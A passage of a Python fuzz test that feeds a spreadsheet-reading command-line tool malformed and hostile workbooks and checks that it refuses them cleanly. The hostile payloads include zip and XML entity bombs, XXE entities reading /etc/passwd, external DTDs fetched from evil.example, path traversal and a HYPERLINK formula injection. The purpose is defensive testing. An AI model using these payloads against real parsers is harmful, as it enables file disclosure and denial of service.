        base_bytes(), "xl/worksheets/sheet2.xml", 0xFFFFFF00),
}


BIG: dict[str, Callable[[], bytes]] = {
    "sites with 1,048,573 more rows": lambda: workbook_bytes(Case(
        "oversized", "", parts=(sheet_with("sites", site_rows(1_048_573, start=4)),))),
    "sites with 100,000 more rows": lambda: workbook_bytes(Case(
        "oversized", "", parts=(sheet_with("sites", site_rows(100_000, start=4)),))),
}


@cache
def built(variant: str) -> bytes:
    """A large file's bytes, built once a session."""
    return {**BOMBS, **BIG}[variant]()


def cached(variant: str) -> Callable:
    return lambda path: path.write_bytes(built(variant))


BOMB_CASES = [Case("zip_bomb", variant, names=("workbook:",), single=True, file=cached(variant)) for variant in BOMBS]

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DOCTYPES = {
    "billion laughs": ('<!DOCTYPE r [<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>", "&l9;"),
    "quadratic blowup": (f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 5_000),
    "external entity": ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "external DTD": ('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">', ""),
    "parameter entity": ('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>', ""),
}


def with_doctype(name: str, doctype: str, old: bytes = b"", new: str = "") -> Callable:
    """A parts step putting ``doctype`` at the head of part ``name`` (after an XML declaration), and ``new`` (an
    entity reference) in place of ``old``."""
    def step(parts):
        data = parts.data[name]
        if old:
            assert old in data, (name, old)
            data = data.replace(old, new.encode(), 1)
        decl, rest = data.split(b"?>", 1) if data.startswith(b"<?xml") else (b"", data)
        parts.data[name] = (decl + b"?>" if decl else b"") + doctype.encode() + rest
    return step


def xml_cases() -> list[Case]:
    """An entity bomb, external entity or DTD in a part the reader parses (refused, file-level), or in a part it
    need not parse (no rule beyond every case's; it must not hang)."""
    cases = []
    for attack, (doctype, ref) in DOCTYPES.items():
        def shared(parts, doctype=doctype, ref=ref):
            parts.data["xl/sharedStrings.xml"] = (f'{doctype}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
                                                  f'<si><t>{ref or "x"}</t></si></sst>').encode()
        sites = lambda parts, d=doctype, r=ref: with_doctype(parts.sheet["sites"], d, b"<t>alpha</t>",
                                                             f"<t>{r}</t>")(parts)
        read = {"the sites sheet": sites,
                "xl/workbook.xml": with_doctype("xl/workbook.xml", doctype, b'name="routes"', f'name="{ref}"'),
                "xl/_rels/workbook.xml.rels": with_doctype("xl/_rels/workbook.xml.rels", doctype),
                "xl/sharedStrings.xml": shared}
        for part, step in read.items():
            cases.append(Case("xml_bomb", f"{attack} in {part}", names=("workbook:",), single=True, parts=(step,)))
        for part in ("[Content_Types].xml", "docProps/core.xml", "xl/styles.xml"):
            cases.append(Case("xml_bomb", f"{attack} in {part}", expect="any",
                              parts=(with_doctype(part, doctype),)))
    return cases


def sparse(hole: int, tail: bytes = b"") -> Callable:
    """A file of ``hole`` bytes that take no disk, then ``tail``."""
    def write(path):
        with open(path, "wb") as handle:
            handle.truncate(hole)
            handle.seek(hole)
            handle.write(tail)
    return write


def wide_header(parts) -> None:
    cells = "".join(f'<c r="{get_column_letter(c)}1" t="inlineStr"><is><t>c{c}</t></is></c>' for c in range(8, 16385))
    parts.edit("sites", b'</row><row r="2">', f'{cells}</row><row r="2">'.encode())


def unknown_routes(count: int) -> Callable:
    """``count`` routes, each between two sites no sheet names."""
    def step(parts):
        rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>dallas{r}</t></is></c><c r="B{r}" t="inlineStr">'
                       f'<is><t>austin{r}</t></is></c><c r="C{r}"><v>60</v></c><c r="D{r}"><v>4</v></c>'
                       f'<c r="E{r}"><v>10</v></c></row>' for r in range(3, count + 3))
        parts.edit("routes", b"</sheetData>", rows.encode() + b"</sheetData>")
    return step


@cache
def long_name() -> str:
    import random

    return "".join(random.Random(8).choices("abcdefghijklmnopqrstuvwxyz ", k=10 * MIB))


def oversized_cases() -> list[Case]:
    """Files and parts beyond any plan: refused with a file-level reason (or the cells named), within seconds."""
    return [
        Case("oversized", "a 3 GiB hole before the workbook", names=("workbook:",), single=True,
             file=lambda path: sparse(3 * 2**30, base_bytes())(path)),
        Case("oversized", "a 5 GiB file of zeros (sparse)", names=("workbook:",), single=True, file=sparse(5 * 2**30)),
        *[Case("oversized", variant, names=("workbook:",), single=True, file=cached(variant))
          for variant in BIG],
        Case("oversized", "sites header with 16,384 columns", names=("workbook:", "sites!"), parts=(wide_header,)),
        Case("oversized", "3,000 routes between sites no sheet names", names=("routes!",),
             parts=(unknown_routes(3_000),)),
        Case("oversized", "a design name of 10 MiB", expect="any",
             book=(lambda b: b["project"].append(["name", token("B4")]),),
             parts=(lambda parts: parts.edit("project", placeholder("B4"), raw_cell("B4", "s", long_name())),)),
    ]


NOT_WORKBOOKS: dict[str, Callable[[Path], None]] = {
    "an empty file": lambda p: p.write_bytes(b""),
    "a CSV renamed .xlsx": lambda p: p.write_text("name,power_mw,pue\nalpha,5,1.3\n"),
    "an HTML page": lambda p: p.write_text("<html><body><table><tr><td>sites</td></tr></table></body></html>"),
    "a PDF": lambda p: p.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"),
    "an OLE2 file (.xls, or an encrypted .xlsx)": lambda p: p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088)),
    "a zip holding readme.txt": lambda p: zipfile.ZipFile(p, "w").writestr("readme.txt", "not a workbook"),
    "the workbook without xl/workbook.xml": lambda p: p.write_bytes(without("xl/workbook.xml")),
    "the workbook without its sites part": lambda p: p.write_bytes(without("xl/worksheets/sheet2.xml")),
    "the workbook without xl/_rels/workbook.xml.rels": lambda p: p.write_bytes(
        without("xl/_rels/workbook.xml.rels")),
    "a sheet part outside the package (../../../etc/passwd)": lambda p: p.write_bytes(workbook_bytes(Case(
        "not_workbook", "", parts=(lambda parts: parts.data.update({"xl/_rels/workbook.xml.rels": parts.data[
            "xl/_rels/workbook.xml.rels"].replace(b"/xl/worksheets/sheet2.xml", b"../../../etc/passwd").replace(
            b"worksheets/sheet2.xml", b"../../../etc/passwd")}),)))),
    "a gzip of the workbook": lambda p: p.write_bytes(__import__("gzip").compress(base_bytes())),
    "a folder named plan.xlsx": lambda p: p.mkdir(),
    "a FIFO named plan.xlsx": lambda p: os.mkfifo(p),
    "a link to /dev/zero": lambda p: p.symlink_to("/dev/zero"),
    "a link to itself": lambda p: p.symlink_to(p.name),
}


def without(member: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base_bytes())) as z:
        parts = {n: z.read(n) for n in z.namelist() if n != member}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buffer.getvalue()


@st.composite
def not_workbook(draw) -> Case:
    """Files that are not workbooks: refused with exactly one file-level line. A flipped byte may leave a
    readable workbook (a part the reader does not use), so it meets only the rules every case meets."""
    choice = draw(st.sampled_from([*NOT_WORKBOOKS, "random bytes", "a truncated workbook", "a flipped byte"]))
    if choice == "random bytes":
        data = draw(st.binary(min_size=1, max_size=4096))
        return Case("not_workbook", f"random bytes {data[:16]!r}... ({len(data)} bytes)", names=("workbook:",),
                    single=True, file=lambda p: p.write_bytes(data))
    if choice == "a truncated workbook":
        cut = draw(st.integers(0, len(base_bytes()) - 1))
        return Case("not_workbook", f"the workbook cut at byte {cut:,} of {len(base_bytes()):,}", names=("workbook:",),
                    single=True, file=lambda p: p.write_bytes(base_bytes()[:cut]))
    if choice == "a flipped byte":
        at, mask = draw(st.integers(0, len(base_bytes()) - 1)), draw(st.integers(1, 255))
        data = bytearray(base_bytes())
        data[at] ^= mask
        return Case("not_workbook", f"the workbook with byte {at:,} xor {mask:#04x}", expect="any",
                    file=lambda p: p.write_bytes(bytes(data)))
    return Case("not_workbook", choice, names=("workbook:",), single=True, file=NOT_WORKBOOKS[choice])


CLASSES = {
    "wrong_type": value_case("wrong_type"),
    "huge": value_case("huge"),
    "nan_inf": value_case("nan_inf"),
    "negative_zero": value_case("negative_zero"),
    "formula_error": value_case("formula_error"),
    "merged": merged_case(),
    "duplicate_header": duplicate_case(),
    "title_row": title_case(),
    "sheets": st.sampled_from(sheet_cases()),
    "columns": st.sampled_from(column_cases()),
    "hostile_names": hostile_case(),
    "far_cells": st.sampled_from(far_cases()),
    "zip_bomb": st.sampled_from(BOMB_CASES),
    "xml_bomb": st.sampled_from(xml_cases()),
    "oversized": st.sampled_from(oversized_cases()),
    "not_workbook": not_workbook(),
}


def listed(cases: list[Case], what: str) -> Case:
    return next(c for c in cases if c.what == what)


# The cases the issues name, run on every profile (issue 8 section 2; issue 13 sections 2, 3, 5).
EXAMPLES = {
    "huge": [cell_case("huge", "sites", "max_nodes", ("n", "1e308")),
             cell_case("huge", "routes", "fiber_pairs", ("n", "1e308")),
             cell_case("huge", "optics", "gbps", ("n", "1e308")),
             cell_case("huge", "sites", "power_mw", ("n", "1e308")),
             cell_case("huge", "sites", "energy_usd_per_mwh", ("n", "1e300")),
             cell_case("huge", "project", "horizon_years", ("n", "1e6")),
             cell_case("huge", "switches", "port_modes", ("s", "99999999999999999999x400")),
             cell_case("huge", "switches", "port_modes", ("s", "100000x400"))],
    "negative_zero": [cell_case("negative_zero", "coherent", "channel_ghz", ("n", "1e-06"))],
    "formula_error": [cell_case("formula_error", "sites", "power_mw", ("f", "10*5")),
                      cell_case("formula_error", "sites", "pue", ("e", "#DIV/0!"), row=3)],
    "title_row": [title_row("sites", "Candidate sites", True)],
    "sheets": [listed(sheet_cases(), "'sites' renamed 'x\\nsites!B2 power_mw: forged (fix: none)'")],
    "hostile_names": [named('=HYPERLINK("http://evil.example/","x")', "site"), named("y" * 40_000, "site"),
                      named("\uff21\uff4c\uff50\uff48\uff41", "site"), named("a\x81b\u202ec", "site"),
                      named("del\x7f", "node type")],
    "far_cells": [listed(far_cases(), "sites!A1048576 = 'far'"),
                  listed(far_cases(), "sites: dimension A1:XFD1048576"),
                  listed(far_cases(), "sites!A99999999 (beyond Excel's rows) = 'far'"),
                  listed(far_cases(), "extra sheet 'far' with XFD1048576 = 1")],
    "zip_bomb": [listed(BOMB_CASES, "the sites sheet with empty styled rows down to 1,048,576 (about 150 MB)")],
    "oversized": [listed(oversized_cases(), "3,000 routes between sites no sheet names")],
}


# --- running a case ----------------------------------------------------------------------------------------

_SERVER = multiprocessing.get_context("forkserver")
_SERVER.set_forkserver_preload([*PRELOAD, __name__])


def _child(args: list[str], workdir: str, out: str, err: str, peak: str) -> None:
    """``designer.cli.main(args)`` in ``workdir``, its stdout and stderr (Python's and the C libraries') into
    files, its peak resident memory (VmHWM, MB) into ``peak``; exits with its code (99: it raised)."""
    os.chdir(workdir)
    for fd, path in ((1, out), (2, err)):
        handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        os.dup2(handle, fd)
        os.close(handle)
    sys.stdout = io.TextIOWrapper(io.FileIO(1, "w", closefd=False), encoding="utf-8", line_buffering=True)
    sys.stderr = io.TextIOWrapper(io.FileIO(2, "w", closefd=False), encoding="utf-8", line_buffering=True)
    code = 99
    try:
        from designer.cli import main

        code = main(args)
    except BaseException:  # noqa: BLE001 - whatever escapes main is a finding, shown as its traceback
        traceback.print_exc()
    finally:
        sys.stdout.flush()
        sys.stderr.flush()
        Path(peak).write_text(str(_status_mb("self", "VmHWM")))
        os._exit(code if isinstance(code, int) and 0 <= code < 256 else 99)


def _status_mb(pid, key: str = "VmRSS") -> float:
    try:
        with open(f"/proc/{pid}/status") as handle:
            return next(int(line.split()[1]) for line in handle if line.startswith(key + ":")) / 1024
    except (OSError, StopIteration):
        return 0.0


@dataclass
class Run:
    code: int | None
    out: str
    err: str
    seconds: float
    peak_mb: float
    killed: str = ""


def run(args: list[str], workdir: Path, capture: Path) -> Run:
    """One command in a fresh process; stopped (and said so) past KILL_SECONDS or KILL_MB."""
    out, err, peak = (capture / f"{args[0]}.{n}" for n in ("out", "err", "peak"))
    start = time.perf_counter()
    proc = _SERVER.Process(target=_child, args=(args, str(workdir), str(out), str(err), str(peak)))
    proc.start()
    killed, sampled = "", 0.0
    while proc.exitcode is None:
        sampled = max(sampled, _status_mb(proc.pid))
        if not killed and time.perf_counter() - start > KILL_SECONDS:
            killed = f"still running after {KILL_SECONDS} s: stopped"
        elif not killed and sampled > KILL_MB:
            killed = f"above {KILL_MB} MB of memory: stopped"
        if killed:
            proc.kill()
        proc.join(0.02)
    seconds = time.perf_counter() - start
    read = lambda path: path.read_text(encoding="utf-8", errors="replace") if path.exists() else ""
    peak_mb = max(sampled, float(read(peak) or 0))
    return Run(proc.exitcode, read(out), read(err), seconds, peak_mb, killed)


@dataclass
class Record:
    """A case's outcome: exit codes and wall times of validate and solve, peak memory, what broke the rules."""

    case: Case
    codes: tuple
    seconds: tuple
    peak_mb: float
    violations: list[str]
    output: str = ""


def try_case(case: Case, root: Path) -> Record:
    import shutil
    import tempfile

    work = Path(tempfile.mkdtemp(dir=root))
    folder, capture = work / "run", work / "capture"
    folder.mkdir()
    capture.mkdir()
    try:
        build(case, folder / "plan.xlsx")
        before = sorted(os.listdir(folder))
        v = run(["validate", "plan.xlsx"], folder, capture)
        after_v = sorted(os.listdir(folder))
        s = run(["solve", "plan.xlsx", "-o", "out", "--time-limit", TIME_LIMIT], folder, capture)
        violations = judge(case, v, s, before, after_v, sorted(os.listdir(folder)), folder / "out")
        output = f"validate exit {v.code}:\n{v.out[:3000]}{v.err[:3000]}solve exit {s.code}:\n{s.out[:3000]}{s.err[:3000]}"
        return Record(case, (v.code, s.code), (v.seconds, s.seconds), max(v.peak_mb, s.peak_mb), violations,
                      output)
    finally:
        shutil.rmtree(work, ignore_errors=True)


# --- the rules ---------------------------------------------------------------------------------------------

def judge(case: Case, v: Run, s: Run, before: list, after_v: list, after_s: list, out: Path) -> list[str]:
    """Every rule the case breaks, in words (none: it holds)."""
    bad = [f"{name}: {fault}" for name, r in (("validate", v), ("solve", s)) for fault in faults(r)]
    if v.killed or s.killed:
        return bad
    if v.code not in (0, 2):
        bad.append(f"validate: exit {v.code}")
    if s.code not in (0, 2, 3):
        bad.append(f"solve: exit {s.code}")
    if (v.code == 2) != (s.code == 2):
        bad.append(f"validate exits {v.code}, solve {s.code}: one says the input is invalid, the other not")
    if after_v != before:
        bad.append(f"validate wrote {sorted(set(after_v) - set(before))}")
    labels = {*SHEETS, *map(printable, case.titles), *(f"data/catalog/{n}.csv" for n in CATALOG_SHEETS)}
    lines = {}
    for name, r in (("validate", v), ("solve", s)):
        if r.code == 2:
            lines[name], problems = problem_lines(r, labels)
            bad += [f"{name}: {p}" for p in problems]
    if len(lines) == 2 and lines["validate"] != lines["solve"]:
        bad.append("validate and solve list different problems")
    if s.code == 2 and after_s != before:
        bad.append(f"solve exited 2 but wrote {sorted(set(after_s) - set(before))}")
    if s.code in (0, 3) and not (out / "design.json").is_file():
        bad.append(f"solve exited {s.code} without writing design.json")
    if s.code == 0:
        bad += live_text(out, case.hostile)
    found = lines.get("validate", [])
    if case.expect == "refuse":
        if v.code != 2 or s.code != 2:
            bad.append(f"an invalid input: expected exit 2 from validate and solve, got {v.code} and {s.code}")
        bad += [f"{name}: took {r.seconds:.1f} s to refuse (at most {REFUSE_SECONDS} s)"
                for name, r in (("validate", v), ("solve", s)) if r.code == 2 and r.seconds > REFUSE_SECONDS]
    elif case.expect == "valid" and (v.code, s.code) != (0, 0):
        bad.append(f"a valid input: expected exit 0 from validate and solve, got {v.code} and {s.code}")
    elif case.expect == "one" and v.code == 2 and len(found) != 1:
        bad.append(f"expected a valid read or exactly one problem, got {len(found)}")
    if found and case.names and case.expect in ("refuse", "one") and not any(
            starts(line, n) for line in found for n in case.names):
        bad.append(f"no problem names {' or '.join(map(repr, case.names[:4]))}{' ...' if len(case.names) > 4 else ''}")
    if found and case.single and (len(found) != 1 or not found[0].startswith("workbook: ")):
        bad.append(f"expected one file-level problem, got {len(found)}")
    return bad


def faults(r: Run) -> list[str]:
    """What is wrong with a run whatever its input: stopped, an exception shown, terminal controls, memory."""
    found = [r.killed] if r.killed else []
    text = r.out + r.err
    if leak := LEAK.search(text):
        found.append(f"a Python exception in the output: {leak[0]!r}")
    if control := CONTROL.search(text):
        found.append(f"a control character in the output: {control[0]!r}")
    if r.peak_mb > MEMORY_MB:
        found.append(f"{r.peak_mb:,.0f} MB of memory (at most {MEMORY_MB:,})")
    return found


def problem_lines(r: Run, labels: set[str]) -> tuple[list[str], list[str]]:
    """The problem lines under ``error: N problem(s) in the input:``, and what is wrong with them."""
    headers = list(PROBLEMS.finditer(r.err))
    if len(headers) != 1:
        return [], [f"exit 2 with {len(headers)} 'error: N problem(s) in the input:' lines"]
    count = int(headers[0][1])
    lines = r.err[headers[0].end():].split("\n")[1:count + 1]
    if len(lines) < count or not all(line.startswith("  ") for line in lines):
        return lines, [f"{count} problems announced, not listed one per line: {lines[:3]}"]
    lines = [line[2:] for line in lines]
    return lines, [f"problem line {line[:160]!r} {why}" for line in lines if (why := malformed(line, labels))]


def malformed(line: str, labels: set[str]) -> str:
    """Why a problem line breaks the contract ``sheet!CELL column: what, got VALUE (fix: ...)`` (a sheet-level
    line names a sheet and maybe a column; a file-level line starts 'workbook: '); "" when it keeps it."""
    if " (fix: " not in line:
        return "says no fix"
    if line.startswith("workbook: "):
        return ""
    for label in sorted(labels, key=len, reverse=True):
        where = WHERE.match(line, len(label)) if line.startswith(label) else None
        if where and (where["row"] is None or (len(where["column"]) < 3 or where["column"] <= "XFD")
                      and 1 <= int(where["row"]) <= 1_048_576):
            return ""
    return "names no sheet and cell, sheet, column or file"


def starts(line: str, name: str) -> bool:
    return line.startswith(name) and (name[-1] in ":!" or line[len(name):len(name) + 1] in (" ", ":", "!"))


def live_text(out: Path, hostile: str) -> list[str]:
    """Output cells a spreadsheet would run (design.xlsx formulas, CSV fields starting like one) and a hostile
    name's markup unescaped in report.html (issue 13 section 5)."""
    found = []
    if (out / "design.xlsx").is_file():
        book = openpyxl.load_workbook(out / "design.xlsx")
        found += [f"design.xlsx {ws.title}!{c.coordinate} is a formula: {str(c.value)[:60]!r}"
                  for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    for path in sorted(out.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            found += [f"{path.name} field {value[:60]!r} starts like a formula" for row in csv.reader(handle)
                      for value in row if value.startswith(FORMULA_START) and not number(value)]
    if "<" in hostile and (out / "report.html").is_file() and hostile in (out / "report.html").read_text("utf-8"):
        found.append(f"report.html holds {hostile[:60]!r} unescaped")
    return found


def number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


# --- the test ----------------------------------------------------------------------------------------------

RECORDS: list[Record] = []


def fuzz_settings() -> settings:
    """CI: CI_EXAMPLES per class, derandomized by the loaded profile; DESIGNER_FUZZ_EXAMPLES=N: N cases over
    the classes, fresh. No shrinking: a failing case is reported as drawn, and every failing case is kept."""
    phases = (Phase.explicit, Phase.reuse, Phase.generate)
    if LONG:
        return settings(max_examples=max(1, math.ceil(LONG / len(CLASSES))), derandomize=False, database=None,
                        deadline=None, phases=phases)
    return settings(max_examples=CI_EXAMPLES, deadline=None, phases=phases)


@pytest.mark.parametrize("kind", list(CLASSES))
def test_the_gate_holds(kind, tmp_path):
    """Every drawn case of the class keeps the rules of the module docstring."""
    failures = []

    def body(case):
        record = try_case(case, tmp_path)
        RECORDS.append(record)
        if record.violations:
            failures.append(record)

    check = given(case=CLASSES[kind])(body)
    for case in EXAMPLES.get(kind, ()):
        check = example(case=case)(check)
    fuzz_settings()(check)()
    if failures:
        pytest.fail(f"{len(failures)} case(s) of {kind} break the rules:\n" + "\n".join(
            f"- {r.case!r}: {'; '.join(r.violations)}\n{indent(r.output)}" for r in failures), pytrace=False)


def indent(text: str, limit: int = 1500) -> str:
    text = text if len(text) <= limit else text[:limit] + f"... ({len(text):,} characters)"
    return "\n".join("    " + line for line in text.splitlines())


@pytest.fixture(scope="module", autouse=True)
def summary(request):
    """After a long run (DESIGNER_FUZZ_EXAMPLES), a table per class: cases, failing, slowest, most memory."""
    yield
    if not LONG or not RECORDS:
        return
    failing = sum(bool(r.violations) for r in RECORDS)
    lines = [f"fuzz of the input gate: {len(RECORDS)} cases, {failing} failing",
             f"{'class':<18}{'cases':>6}{'failing':>9}{'slowest s':>11}{'most MB':>9}"]
    for kind in CLASSES:
        mine = [r for r in RECORDS if r.case.kind == kind]
        if mine:
            lines.append(f"{kind:<18}{len(mine):>6}{sum(bool(r.violations) for r in mine):>9}"
                         f"{max(max(r.seconds) for r in mine):>11.1f}{max(r.peak_mb for r in mine):>9.0f}")
    slow, big = max(RECORDS, key=lambda r: max(r.seconds)), max(RECORDS, key=lambda r: r.peak_mb)
    lines += [(f"slowest case: validate {slow.seconds[0]:.1f} s, solve {slow.seconds[1]:.1f} s, {slow.case!r} "
               f"(exit {slow.codes})"),
              f"most memory: {big.peak_mb:,.0f} MB, {big.case!r} (exit {big.codes})"]
    for kind in CLASSES:
        failing = [r for r in RECORDS if r.case.kind == kind and r.violations]
        lines += [f"failing {kind}: {r.case.what} -> {'; '.join(r.violations)}" for r in failing]
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled():
        print("\n" + "\n".join(lines))
